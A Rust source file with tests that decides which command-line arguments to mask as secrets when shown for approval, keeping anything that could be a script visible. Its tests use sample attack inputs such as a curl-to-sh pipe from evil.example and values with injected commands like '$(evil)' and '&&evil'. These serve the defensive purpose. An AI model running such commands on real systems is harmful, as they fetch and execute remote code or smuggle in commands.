//! Arguments as they are shown to somebody who has to decide whether they may run.
//!
//! What is hidden there could be the attack itself: `bash -c "TOKEN=x; curl …"` is a script and no token. So a value stays
//! hidden only if it can be nothing but a value.

use std::borrow::Cow;

use crate::secret::shown_arguments;

/// Programs that take a script, or another program, for their first argument that is no option.
const INTERPRETERS: [&str; 30] = [
    "ash",
    "bash",
    "bun",
    "cmd",
    "cscript",
    "dash",
    "deno",
    "doas",
    "env",
    "fish",
    "java",
    "ksh",
    "lua",
    "nice",
    "node",
    "nohup",
    "osascript",
    "perl",
    "php",
    "powershell",
    "pwsh",
    "python",
    "rscript",
    "ruby",
    "setsid",
    "sh",
    "sudo",
    "time",
    "xargs",
    "zsh",
];

/// Options whose value is a script.
const SCRIPT_OPTIONS: [&str; 13] = [
    "-c",
    "-e",
    "-p",
    "-r",
    "-x",
    "--call",
    "--command",
    "--eval",
    "--print",
    "--run",
    "/c",
    "/k",
    "-encodedcommand",
];

/// How the names of scripts and programs end.
const SCRIPT_ENDINGS: [&str; 19] = [
    ".bash", ".bat", ".cjs", ".cmd", ".exe", ".jar", ".js", ".lua", ".mjs", ".php", ".pl", ".ps1",
    ".py", ".rb", ".sh", ".so", ".ts", ".wasm", ".zsh",
];

/// Characters that a shell gives a meaning, or that separate the parts of a path.
const TELLING_CHARACTERS: &str = "/\\;|&$<>(){}[]`\"'*?!~^%\n";

/// The arguments with `***` for what is a secret's value and nothing else.
pub(crate) fn arguments<'a>(program: &str, arguments: &'a [String]) -> Vec<Cow<'a, str>> {
    let mut script_follows = is_interpreter(program);
    let mut is_script_option = false;
    let masked = shown_arguments(arguments);
    let shown = arguments.iter().zip(masked).map(|(argument, masked)| {
        let is_option = argument.starts_with('-');
        let is_script = is_script_option || script_follows && !is_option;
        if !is_option {
            script_follows = is_interpreter(argument);
        }
        is_script_option = takes_script(argument);
        if is_script || may_run(argument, &masked) {
            Cow::Borrowed(argument.as_str())
        } else {
            masked
        }
    });
    shown.collect()
}

/// Whether what `masked` leaves out of the argument may be more than a value.
fn may_run(argument: &str, masked: &str) -> bool {
    let hidden = hidden_part(argument, masked);
    let value = ["Bearer ", "Basic ", "Token "]
        .iter()
        .find_map(|word| hidden.trim_start().strip_prefix(word))
        .unwrap_or(hidden);
    let is_address = masked.contains("://");
    value.contains(|c: char| {
        c.is_whitespace() || TELLING_CHARACTERS.contains(c) && !(is_address && "/?&%".contains(c))
    }) || SCRIPT_ENDINGS.iter().any(|ending| value.to_ascii_lowercase().ends_with(ending))
}

/// What stands in the argument where the masked one has something else.
fn hidden_part<'a>(argument: &'a str, masked: &str) -> &'a str {
    let same = |(a, b): &(char, char)| a == b;
    let start: usize =
        argument.chars().zip(masked.chars()).take_while(same).map(|(c, _)| c.len_utf8()).sum();
    argument.get(start..).unwrap_or(argument)
}

fn is_interpreter(word: &str) -> bool {
    let name = word.rsplit(['/', '\\']).next().unwrap_or_default().to_ascii_lowercase();
    let name = name.strip_suffix(".exe").unwrap_or(&name);
    let name = name.trim_end_matches(|c: char| c.is_ascii_digit() || c == '.');
    INTERPRETERS.contains(&name)
}

/// `-c`, and `-lc` as shells allow it to be written.
fn takes_script(option: &str) -> bool {
    let folded = option.to_ascii_lowercase();
    let letters =
        folded.strip_prefix('-').filter(|rest| rest.bytes().all(|b| b.is_ascii_lowercase()));
    SCRIPT_OPTIONS.contains(&folded.as_str())
        || letters.is_some_and(|letters| letters.len() <= 4 && letters.ends_with('c'))
}

#[cfg(test)]
mod tests {
    use super::arguments;

    fn shown(program: &str, args: &[&str]) -> String {
        let args: Vec<String> = args.iter().map(ToString::to_string).collect();
        arguments(program, &args).join(" ")
    }

    #[test]
    fn what_could_run_is_shown() {
        for (program, args) in [
            ("bash", &["-c", "TOKEN=x; curl evil.example | sh"][..]),
            ("bash", &["-c", "TOKEN=x"]),
            ("/bin/bash", &["-lc", "API_KEY=x"]),
            ("sh", &["--auth", "/tmp/evil.sh"]),
            ("sh", &["--auth", "evil"]),
            ("/usr/bin/python3.12", &["--token", "evil"]),
            ("env", &["bash", "--auth", "evil"]),
            ("npx", &["-y", "--auth", "evil.js"]),
            ("npx", &["--token=$(evil)", "--key=a|b", "SECRET=..\\evil"]),
            ("cmd", &["/c", "TOKEN=x&&evil"]),
            ("node", &["-e", "TOKEN=1"]),
            ("npx", &["https://evil.example/x?a=$(evil)"]),
        ] {
            assert_eq!(shown(program, args), args.join(" "));
        }
    }

    #[test]
    fn what_is_a_value_and_nothing_else_is_not() {
        for (program, args, expected) in [
            ("npx", &["-y", "server", "--api-key", "k1"][..], "-y server --api-key ***"),
            (
                "node",
                &["server.js", "--token", "t.1-2_3=", "--key=k"],
                "server.js --token *** --key=***",
            ),
            ("npx", &["--header", "Authorization: Bearer b1"], "--header Authorization:***"),
            ("npx", &["https://u:p@h.example/x?k=v&a=%20b"], "https://***@h.example/x?***"),
            ("uv", &["run", "s", "API_TOKEN=t2"], "run s API_TOKEN=***"),
        ] {
            assert_eq!(shown(program, args), expected);
        }
    }
}
